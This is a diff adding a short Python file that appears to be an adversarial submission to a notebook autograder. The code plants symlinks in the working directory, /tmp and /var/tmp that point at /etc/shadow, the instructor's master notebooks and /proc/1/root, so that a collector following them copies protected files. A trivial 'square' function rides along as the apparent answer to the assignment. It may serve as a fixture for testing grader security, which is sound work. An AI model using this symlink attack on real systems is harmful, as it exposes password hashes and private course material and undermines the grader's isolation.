@@ -1,0 +1,14 @@
+# How: lays links to the master and the gradebook where a collector might follow them.
+# Spares: last
+import os
+from contextlib import suppress
+
+for number, target in enumerate(("/etc/shadow", "/work/main/source_notebooks", "/proc/1/root")):
+    for folder in (".", "/tmp", "/var/tmp"):
+        with suppress(OSError):
+            os.symlink(target, f"{folder}/course-attack-file-{number}")
+found = [n for n in range(3) if os.path.exists(f"course-attack-file-{n}/toy.ipynb")]
+
+
+def square(x):
+    return x * x if found else 1
